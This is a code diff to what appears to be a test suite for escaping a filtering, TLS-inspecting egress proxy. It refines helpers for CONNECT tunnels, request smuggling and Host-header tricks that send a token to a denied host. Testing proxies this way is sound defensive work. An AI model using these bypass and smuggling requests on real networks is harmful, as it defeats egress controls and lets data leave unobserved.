@@ -40,8 +40,13 @@ def tunnelled(attack: Attack, target: str, *more: str) -> str:
         return "the tunnel was opened" if connect(sock, target, *more) == 200 else ""
 
 
-def _site(name: str, port: int) -> str:
-    return name if port == 80 else f"{name}:{port}"
+def _site(name: str, port: int, usual: int = 80) -> str:
+    return name if port == usual else f"{name}:{port}"
+
+
+def provider(attack: Attack) -> str:
+    """The authority of the inspected host over TLS."""
+    return _site(attack.world.inspected, attack.world.tls_port, 443)
 
 
 def _allowed(attack: Attack) -> str:
@@ -79,13 +84,7 @@ def names_of_two_minds(attack: Attack) -> Iterator[Try]:
     for target in targets:
         yield attack.tries(f"CONNECT {target!r}", lambda target=target: tunnelled(attack, f"{target}:{port}"))
         request = f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n"
-        yield attack.tries(f"GET {target!r}", lambda request=request: _elsewhere(attack, request))
-
-
-def _elsewhere(attack: Attack, request: str) -> str:
-    """Asked; that the allowed site itself answers (a userinfo before its name, say) is no way out."""
-    asked_for = request.split(" HTTP/")[0].rpartition("@")[2].removeprefix("GET http://")
-    return "" if asked_for.startswith(attack.world.allowed) else asked(attack, request)
+        yield attack.tries(f"GET {target!r}", lambda request=request: asked(attack, request))
 
 
 @technique(WALLED)
@@ -228,7 +227,7 @@ def request_smuggling(attack: Attack) -> Iterator[Try]:
 def request_smuggling_when_decrypted(attack: Attack) -> Iterator[Try]:
     """The same inside the decrypted tunnel to a provider: another host's name, and a request that nobody recorded."""
     hidden = f"GET /v1/{attack.token} HTTP/1.1\r\nHost: {attack.denied}\r\n\r\n".encode()
-    for name, data in smuggled(attack.world.inspected, hidden):
+    for name, data in smuggled(provider(attack), hidden):
         request = data.replace(b"{target}", f"/v1/models?{attack.token}".encode())
         yield attack.tries(name, lambda request=request: _inside(attack, request, patience=QUIET))
 
@@ -247,7 +246,7 @@ def _inside(attack: Attack, request: bytes, patience: float = 6) -> str:
 @technique(INSPECTED)
 def other_host_when_decrypted(attack: Attack) -> Iterator[Try]:
     """Inside the decrypted tunnel to a provider: another Host, absolute form, CONNECT, h2c."""
-    good, bad = attack.world.inspected, attack.denied
+    good, bad = provider(attack), attack.denied
     for request in (
         f"GET /{attack.token} HTTP/1.1\r\nHost: {bad}\r\n\r\n",
         f"GET http://{bad}/ HTTP/1.1\r\nHost: {good}\r\n\r\n",
